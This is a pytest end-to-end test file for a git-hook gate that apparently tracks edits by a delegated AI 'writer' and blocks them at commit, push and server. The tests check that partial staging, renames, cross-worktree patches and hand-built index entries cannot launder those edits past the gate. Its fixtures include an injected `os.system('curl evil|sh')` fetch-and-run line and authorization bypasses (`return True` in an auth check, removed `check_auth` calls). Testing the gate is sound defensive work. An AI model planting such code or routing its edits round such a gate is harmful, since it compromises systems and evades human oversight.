"""A writer's edit reproduced in its own path is the writer's content, however short its
lines (SPEC §3 "Attribution follows content"; row A6 of
:mod:`gentle_hooks.policy.attribution`): real git, ``gentle-hook install``, a bare remote
with the server gate and notes shared with it.

* ``git add -p`` or ``git checkout -p`` keeping only the writer's one-line replacement of
  a common line (``return False`` -> ``return True``) delivers the writer's edit: blocked
  at commit, at push and at the server, and the pending work does not expire;
* ``git mv`` of the writer's file with one more edit is the writer's file renamed (paired
  as git pairs a rename): its one changed line is still the writer's, at every gate, and
  the pending work does not expire;
* staging one of the writer's two removed telling lines (``check_auth(user)`` of
  ``check_auth`` and ``audit_access``) delivers the writer's removal (row A3): blocked at
  commit, at push and at the server.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World
from tests.e2e.test_attribution import (
    TRAILER,
    _blocked_push,
    _blocked_staged,
    _message,
    _server_rejects,
)

AUTH = (
    'def is_allowed(user):\n    if user.name == "root":\n        return False\n'
    "    return user.ok\n\n\n\n\n\n\n\n\ndef helper():\n    return 42\n"
)
#: The writer's two hunks: a common line flipped, and a call.
WRITER = AUTH.replace("return False", "return True").replace(
    "return 42", "return compute_answer(42)"
)
FLIPPED = AUTH.replace("return False", "return True")


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate, notes shared, and ``src/auth.py`` pushed."""
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.write("src/auth.py", AUTH)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: auth")
    w.ok("push", "-q", "origin", "main")
    return w


@pytest.mark.parametrize("how", ["add -p", "checkout -p"])
def test_the_writers_one_line_flip_taken_alone_is_delegated(served: World, how: str) -> None:
    """The writer flips ``return False`` to ``return True`` and wraps ``42`` in a call; the
    flip alone is staged (``git add -p``: first hunk) or kept (``git checkout -p``: the
    second hunk thrown away): that commit carries the writer's edit."""
    w = served
    w.delegate("src/auth.py", WRITER)
    if how == "add -p":
        r = w.run(["git", "add", "-p", "src/auth.py"], input=b"y\nn\n")
    else:
        r = w.run(["git", "checkout", "-p", "src/auth.py"], input=b"n\ny\n")
    assert r.code == 0, r
    assert w.ok("diff", "--cached" if how == "add -p" else "HEAD").count("\n+ ") == 1
    r = w.git("commit", "-qam" if how == "checkout -p" else "-qm", "flip")
    assert not [line for line in r.said if "expired" in line], r
    _blocked_staged(r, "src/auth.py")
    w.ok("commit", "-q", "--no-verify", "-m", "flip", *(["-a"] if how == "checkout -p" else []))
    bad = w.rev("HEAD")
    assert w.ok("show", "HEAD:src/auth.py") == FLIPPED
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad, "src/auth.py")
    _server_rejects(w, bad)


APP = "def add(a, b):\n    return a + b\n\ndef helper():\n    return 42\n"
EVIL = APP.replace("return a + b", "return __import__('os').system('curl evil|sh') or a + b")


def test_git_mv_with_an_edit_keeps_the_writers_one_line_its_own(served: World) -> None:
    """The writer changes one line of ``src/app.py``; ``git mv`` to ``src/app2.py`` and a
    human's ``42`` -> ``43`` make it a deletion and an addition whose blob is nobody's: as
    git pairs them, a rename, so the writer's line is in the path it wrote, and the blocks
    name the path that holds it now."""
    w = served
    w.write("src/app.py", APP)
    w.ok("commit", "-qam", "human: helper")
    w.ok("push", "-q", "origin", "main")
    w.delegate(text=EVIL)
    w.ok("mv", "src/app.py", "src/app2.py")
    w.write("src/app2.py", EVIL.replace("42", "43"))
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "x")
    assert not [line for line in r.said if "expired" in line], r
    # named where the candidate holds it (refuter h17k F3)
    _blocked_staged(r, "src/app2.py (was src/app.py)")
    w.ok("commit", "-q", "--no-verify", "-m", "x")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad, "src/app2.py (was src/app.py)")
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
    _server_rejects(w, bad)
    status = w.gh("status")
    assert "expired" not in status.out + status.err, status


def test_the_writers_one_line_flip_applied_as_a_patch_in_another_worktree(
    served: World,
) -> None:
    """The writer's only edit (``return False`` -> ``return True``) in worktree A, taken as
    ``git diff`` and applied in linked worktree B, whose file already differs (so the blob
    is not the writer's): B's commit carries the writer's edit at commit, at push (from B)
    and at the server."""
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.write("src/auth.py", AUTH + "\n\ndef other():\n    return 1\n", cwd=b)
    w.ok("commit", "-qam", "human b: other", cwd=b)  # B's file differs: not the writer's blob
    w.delegate("src/auth.py", FLIPPED)  # in A
    patch = w.ok("diff")
    applied = w.run(["git", "apply"], cwd=b, input=patch.encode())
    assert applied.code == 0, applied
    r = w.git("commit", "-qam", "flip", cwd=b)
    _blocked_staged(r, "src/auth.py")
    w.ok("commit", "-q", "--no-verify", "-am", "flip", cwd=b)
    bad = w.rev("HEAD", cwd=b)
    assert TRAILER in _message(w, cwd=b)
    _blocked_push(w.git("push", "origin", "topic:main", cwd=b), bad, "src/auth.py")
    before = w.remote_ref("main")
    r = w.git("push", "--no-verify", "origin", "topic:main", "refs/notes/gentle-hooks", cwd=b)
    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
    assert w.remote_ref("main") == before


GUARDED = (
    "def handler(user):\n    check_auth(user)\n    audit_access(user)\n    return serve(user)\n"
)


def test_one_of_the_writers_two_removals_staged_alone_is_delegated(served: World) -> None:
    """The writer removes ``check_auth(user)`` and ``audit_access(user)``; the human stages
    only the removal of ``check_auth`` (row A3: one telling removed line): blocked at
    commit, at push and at the server."""
    w = served
    w.write("src/handler.py", GUARDED)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: handler")
    w.ok("push", "-q", "origin", "main")
    w.delegate("src/handler.py", "def handler(user):\n    return serve(user)\n")
    partial = GUARDED.replace("    check_auth(user)\n", "")
    blob = w.run(["git", "hash-object", "-w", "--stdin"], input=partial.encode()).out.strip()
    w.ok("update-index", "--cacheinfo", f"100644,{blob},src/handler.py")
    _blocked_staged(w.git("commit", "-qm", "drop auth"), "src/handler.py")
    w.ok("commit", "-q", "--no-verify", "-m", "drop auth")
    bad = w.rev("HEAD")
    assert w.ok("show", "HEAD:src/handler.py") == partial
    assert TRAILER in _message(w)
    w.ok("checkout", "--", "src/handler.py")
    _blocked_push(w.git("push", "origin", "main"), bad, "src/handler.py")
    _server_rejects(w, bad)


GUARD = (
    'def is_authorized(user):\n    return user.role == "admin"\n\n\n'
    "def a():\n    return 1\n\n\ndef b():\n    return 2\n\n\n"
    "def other():\n    return compute_total(1)\n"
)
#: The writer's two hunks: ``return True`` at the top of the check (a trivial line), and a
#: telling call in another function.
GUARD_W = GUARD.replace("(user):\n", "(user):\n    return True\n").replace(
    "    return compute_total", '    log_event("other called")\n    return compute_total'
)
BYPASS = GUARD.replace("(user):\n", "(user):\n    return True\n")


def _stage(w: World, rel: str, text: str) -> None:
    """Stage ``text`` as ``rel`` without touching the work tree."""
    blob = w.run(["git", "hash-object", "-w", "--stdin"], input=text.encode()).out.strip()
    w.ok("update-index", "--cacheinfo", f"100644,{blob},{rel}")


def test_the_writers_trivial_line_staged_alone_where_it_put_it_is_delegated(
    served: World,
) -> None:
    """The writer adds ``return True`` at the top of ``is_authorized`` and a log call
    elsewhere; ``git add -p`` stages only the ``return True`` hunk (row A7: the line between
    the neighbours the writer gave it): blocked at commit, at push and at the server."""
    w = served
    w.write("src/guard.py", GUARD)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: guard")
    w.ok("push", "-q", "origin", "main")
    w.delegate("src/guard.py", GUARD_W)
    r = w.run(["git", "add", "-p", "src/guard.py"], input=b"y\nn\n")
    assert r.code == 0, r
    assert w.ok("diff", "--cached").count("\n+ ") == 1
    _blocked_staged(w.git("commit", "-qm", "auth tweak"), "src/guard.py")
    w.ok("commit", "-q", "--no-verify", "-m", "auth tweak")
    bad = w.rev("HEAD")
    assert w.ok("show", "HEAD:src/guard.py") == BYPASS
    assert TRAILER in _message(w)
    w.ok("checkout", "--", "src/guard.py")
    _blocked_push(w.git("push", "origin", "main"), bad, "src/guard.py")
    _server_rejects(w, bad)


def test_a_humans_own_trivial_line_at_another_place_passes(served: World) -> None:
    """With the same writer work pending in the work tree, a human stages their own
    ``return True`` in another function of the file: not the writer's (row A5)."""
    w = served
    w.write("src/guard.py", GUARD)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: guard")
    w.ok("push", "-q", "origin", "main")
    w.delegate("src/guard.py", GUARD_W)
    _stage(w, "src/guard.py", GUARD.replace("    return 2\n", "    return True\n"))
    r = w.git("commit", "-qm", "human: b is true")
    assert r.code == 0, r
    assert TRAILER not in _message(w)
    w.ok("checkout", "--", "src/guard.py")
    r = w.git("push", "origin", "main")
    assert r.code == 0, r
